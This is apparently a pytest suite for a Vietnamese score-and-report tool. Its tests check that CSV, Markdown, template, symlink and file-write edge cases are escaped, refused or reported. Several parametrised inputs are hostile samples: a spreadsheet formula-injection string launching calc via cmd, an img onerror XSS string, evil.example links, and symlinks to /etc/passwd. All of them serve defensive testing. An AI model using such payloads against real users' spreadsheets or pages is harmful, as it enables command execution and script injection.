def test_the_bonus_table_cannot_be_moved_onto_the_item_rows(root: Path, tmp_path: Path) -> None:
    form = make_form(root, tmp_path)
    workbook = load_workbook(form)
    first = workbook["giaouoc"]["B5"].value
    workbook["giaouoc"]["B6"] = f"{first + 1},{len([1 for r in range(first, first + 13)])}"
    workbook.save(form)
    code, _, stderr = invoke(root, "import", "2023", str(form), "--dry-run")
    assert code == 1 and "giaouoc!B6" in stderr


@pytest.mark.parametrize("short", ["$$", "$\\\\foo$", "$x^{$", "$x$"])
def test_dollar_signs_in_names_are_drawn_as_written(root: Path, tmp_path: Path, short: str) -> None:
    edit(root / YEAR / "units.yaml", "short: PA01", f'short: "{short}"')
    code, _, stderr = invoke(root, "report", "2023", "--out", str(tmp_path / "bao-cao"))
    assert code == 0, stderr
    import matplotlib

    assert matplotlib.rcParams["text.parse_math"] is False


@pytest.mark.parametrize("years", ["100000000", "1" + "0" * 30, "101"])
def test_huge_year_counts_are_messages(root: Path, years: str) -> None:
    edit(root / YEAR / "compact.yaml", "{band: Hoàn thành xuất sắc nhiệm vụ, years: 2}",
         f"{{band: Hoàn thành xuất sắc nhiệm vụ, years: {years}}}")
    assert "invalid-history" in codes(root)
    code, _, stderr = invoke(root, "rank", "2023")
    assert code == 1 and "Traceback" not in stderr and "nội bộ" not in stderr


@pytest.mark.parametrize("target", ["/etc/passwd", "../../../..", "/"])
def test_diff_against_a_revision_with_links_is_a_message(root: Path, target: str) -> None:
    subprocess.run(["git", "init", "-q", str(root)], check=True)
    (root / YEAR / "text" / "lien-ket.md").symlink_to(target)
    subprocess.run(["git", "-C", str(root), "add", "."], check=True)
    subprocess.run(["git", "-C", str(root), "-c", "user.name=t", "-c", "user.email=t@x", "commit", "-qm", "a"],
                   check=True)
    code, stdout, stderr = invoke(root, "diff", "2023", "HEAD")
    assert code in (0, 1) and "Traceback" not in stderr and "nội bộ" not in stderr
    assert "root:x" not in stdout + stderr


@pytest.mark.parametrize("body", ["{{ " + "(" * 3000 + "1" + ")" * 3000 + " }}",
                                  "{% if 1 %}" * 3000 + "x" + "{% endif %}" * 3000,
                                  "{{ " + "[" * 3000 + "]" * 3000 + " }}"])
def test_deeply_nested_templates_are_messages(root: Path, body: str) -> None:
    (root / "templates").mkdir()
    (root / "templates" / "bang-diem.md.j2").write_text(f"---\nid: bang-diem\n---\n{body}\n", encoding="utf-8")
    code, stdout, stderr = invoke(root, "validate", "--format", "json")
    assert code == 1 and "template-error" in {p["code"] for p in json.loads(stdout)["problems"]}
    code, _, stderr = invoke(root, "render", "2023", "--doc", "bang-diem")
    assert code == 1 and "Traceback" not in stderr and "nội bộ" not in stderr


# --- R7. one lock for every writer into a year ----------------------------------------------------------------------


def test_close_and_reopen_take_the_year_lock(root: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    from contextlib import contextmanager

    import giaouoc.history.seal as seal

    taken: list[Path] = []

    @contextmanager
    def lock(folder: Path):  # type: ignore[no-untyped-def]
        taken.append(folder)
        yield

    monkeypatch.setattr(seal, "year_lock", lock)
    invoke(root, "close", "2023")
    invoke(root, "reopen", "2023", "--reason", "sửa điểm")
    assert [p.name for p in taken] == ["2023", "2023"]


# --- R8. text XML 1.0 cannot hold ----------------------------------------------------------------------------------


@pytest.mark.parametrize("char", ["\\x1b", "\\x0c", "\\ufffe", "\\x00"])
def test_a_template_output_word_cannot_hold_is_refused(root: Path, char: str) -> None:
    (root / "templates").mkdir()
    (root / "templates" / "bang-diem.md.j2").write_text(f"---\nid: bang-diem\n---\nA\n\nB {{{{ '{char}' }}}}\n",
                                                      encoding="utf-8")
    code, _, stderr = invoke(root, "render", "2023", "--doc", "bang-diem", "--docx")
    assert code == 1 and "templates/bang-diem.md.j2" in stderr and "dòng 6" in stderr
    assert not (root / "out/2023/bang-diem.docx").exists()


# --- R9. Markdown for merge requests --------------------------------------------------------------------------------

MARKDOWN_PAYLOADS = ["![x](http://evil.example/p.png) x", "x <img src=x onerror=alert(1)>", "[bấm](http://evil.example)",
                     "*nghiêng* __đậm__ ~~gạch~~", "`mã`", "$\\\\color{red}\\\\huge\\\\text{A}$", "http://evil.example/a",
                     "www.evil.example", "&amp; &#x41;", "@cuc-truong", "- danh sách", "1. thứ tự", "x <http://e.example>"]


@pytest.mark.parametrize("payload", MARKDOWN_PAYLOADS)
def test_markdown_outputs_show_data_as_text(root: Path, payload: str) -> None:
    from markdown_it import MarkdownIt

    edit(root / YEAR / "units.yaml", "short: PV06", f"short: {json.dumps(payload, ensure_ascii=False)}")
    md = MarkdownIt("commonmark").enable("table").enable("strikethrough")
    for args in (("rank", "2023", "--format", "markdown"), ("history", "--format", "markdown")):
        code, stdout, stderr = invoke(root, *args)
        assert code == 0, stderr
        html = md.render(stdout)
        assert not re.search(r"<(a|img|em|strong|code|s|ol|ul)\b", html.split("<table>", 1)[-1]), html
        assert "http://" not in stdout and "www.evil" not in stdout and re.search(r"(?<!\\)\$", stdout) is None


def test_diff_markdown_escapes_notes_with_links_and_math(root: Path) -> None:
    from markdown_it import MarkdownIt

    subprocess.run(["git", "init", "-q", str(root)], check=True)
    subprocess.run(["git", "-C", str(root), "add", "."], check=True)
    subprocess.run(["git", "-C", str(root), "-c", "user.name=t", "-c", "user.email=t@x", "commit", "-qm", "a"],
                   check=True)
    note = "xem http://evil.example $\\\\color{red}A$ <b>x</b> \\u202e"
    edit(root / YEAR / "scores/pa01.yaml", "  1: {self: 8, block: 8}", f'  1: {{self: 8, block: 8, note: "{note}"}}')
    code, stdout, _ = invoke(root, "diff", "2023", "--format", "markdown")
    assert code == 0 and "http\\://evil" in stdout and "\\$" in stdout and "\u202e" not in stdout
    assert "<b>" not in MarkdownIt("commonmark").enable("table").render(stdout)


# --- R10. CSV, whichever separator the spreadsheet splits on ---------------------------------------------------------


@pytest.mark.parametrize("name", ["A;=1+1;", "B,=2+2", "C;+cmd|' /C calc'!A0", "D;@SUM(1)", "E;-2+3"])
def test_csv_has_no_formula_after_any_separator(root: Path, name: str) -> None:
    import csv
    import io

    edit(root / YEAR / "units.yaml", "name: Phòng Hồ sơ", f"name: {json.dumps(name)}")
    code, stdout, _ = invoke(root, "rank", "2023", "--format", "csv")
    assert code == 0
    for delimiter in (",", ";", "\t"):
        for row in csv.reader(io.StringIO(stdout.lstrip("\ufeff")), delimiter=delimiter):
            for field in row:
                if field[:1] in ("=", "+", "@") or (field[:1] == "-" and not re.fullmatch(r"-[0-9.]+", field)):
                    pytest.fail(f"{delimiter!r}: {field!r}")


# --- R11. history.yaml years ----------------------------------------------------------------------------------------


@pytest.mark.parametrize("year", ["2030", "0", "-5", "-" + "1" * 31, "1" + "0" * 30, "999", "20211"])
def test_impossible_history_years_are_errors_at_their_line(root: Path, year: str) -> None:
    edit(root / "compacts/history.yaml", "  2021:", f"  {year}:")
    code, stdout, _ = invoke(root, "validate", "--format", "json")
    found = [p for p in json.loads(stdout)["problems"] if p["code"] == "history-year"]
    assert code == 1 and found and found[0]["file"] == "compacts/history.yaml" and found[0]["line"] == 4
    assert "predecessor-exists" not in {p["code"] for p in json.loads(stdout)["problems"]}


# --- R12. minor ------------------------------------------------------------------------------------------------------


def test_a_carriage_return_in_a_form_note_is_reported_at_its_cell(root: Path, tmp_path: Path) -> None:
    form = make_form(root, tmp_path)
    workbook = load_workbook(form)
    workbook["Tự chấm"]["F6"] = "dòng một\rdòng hai"
    workbook.save(form)
    code, _, stderr = invoke(root, "import", "2023", str(form), "--dry-run")
    assert code == 1 and "Tự chấm!F6" in stderr and "[control-char]" in stderr and ".yaml:" not in stderr


@pytest.mark.parametrize("name", [".pa01.yaml.ab12cd_9", ".closed.yaml.giaouoc-99999999-abcdefgh",
                                  ".giao-uoc.md.x1y2z3w4"])
def test_temporary_files_left_by_a_killed_write_are_reported(root: Path, name: str) -> None:
    place = {".p": "scores", ".c": "", ".g": "text"}[name[:2]]
    (root / YEAR / place / name).write_text("nửa tệp", encoding="utf-8")
    code, stdout, _ = invoke(root, "validate", "--format", "json")
    found = [p for p in json.loads(stdout)["problems"] if p["code"] == "stray-file"]
    assert code == 0 and [p["file"] for p in found] == [f"{YEAR}/{place}/{name}".replace("//", "/")]


def test_a_write_removes_the_temporary_files_its_killed_predecessors_left(tmp_path: Path) -> None:
    from giaouoc.files import write_atomic

    target = tmp_path / "pa01.yaml"
    dead = tmp_path / ".pa01.yaml.giaouoc-99999999-abcdefgh"  # no such process
    mine = tmp_path / f".pa01.yaml.giaouoc-{os.getpid()}-abcdefgh"  # a live writer's: kept
    other = tmp_path / ".pa02.yaml.giaouoc-99999999-abcdefgh"  # another file's: kept
    for path in (dead, mine, other):
        path.write_text("x", encoding="utf-8")
    write_atomic(target, b"unit: pa01\n")
    assert not dead.exists() and mine.exists() and other.exists() and target.read_bytes() == b"unit: pa01\n"
    assert sorted(p.name for p in tmp_path.iterdir()) == sorted([target.name, mine.name, other.name])


def test_a_file_with_countless_unknown_keys_stops_at_a_bound(root: Path) -> None:
    path = root / YEAR / "scores/pa01.yaml"
    path.write_text(path.read_text(encoding="utf-8") + "".join(f"k{i}: 1\n" for i in range(20000)), encoding="utf-8")
    code, stdout, _ = invoke(root, "validate", "--format", "json")
    problems = [p for p in json.loads(stdout)["problems"] if p["file"].endswith("pa01.yaml")]
    assert code == 1 and len(problems) == 201
    more = [p for p in problems if p["code"] == "more-problems"]
    assert more and "19800" in more[0]["message"]


def test_history_yaml_linked_outside_the_root_is_refused(root: Path, tmp_path_factory: pytest.TempPathFactory) -> None:
    outside = tmp_path_factory.mktemp("ngoai") / "history.yaml"
    outside.write_bytes((root / "compacts/history.yaml").read_bytes())
    (root / "compacts/history.yaml").unlink()
    (root / "compacts/history.yaml").symlink_to(outside)
    assert "outside-root" in codes(root)


@pytest.mark.parametrize("where", ["units.yaml", "text"])
def test_direction_overrides_that_would_reach_word_are_warned(root: Path, where: str) -> None:
    if where == "text":
        text = root / YEAR / "text" / "giao-uoc.md"
        text.write_text(text.read_text(encoding="utf-8") + "\nĐơn vị \u202eAP\u202c cam kết.\n", encoding="utf-8")
    else:
        edit(root / YEAR / "units.yaml", "name: Phòng Hồ sơ", "name: \"Phòng \\u2067Hồ sơ\\u2069\"")
    code, stdout, _ = invoke(root, "validate", "--format", "json")
    found = [p for p in json.loads(stdout)["problems"] if p["code"] == "bidi-char"]
    assert code == 0 and len(found) == 1 and found[0]["severity"] == "warning"


def test_a_write_the_system_refuses_is_explained_in_vietnamese(tmp_path: Path) -> None:
    from giaouoc.errors import FileAccessError
    from giaouoc.files import write_atomic

    blocker = tmp_path / "tep"
    blocker.write_text("x", encoding="utf-8")
    with pytest.raises(FileAccessError) as refused:
        write_atomic(blocker / "phieu.xlsx", b"data")  # a file where a folder should be
    assert "một phần của đường dẫn là một tệp, không phải thư mục" in str(refused.value)
    assert "Not a directory" not in str(refused.value) and "File exists" not in str(refused.value)
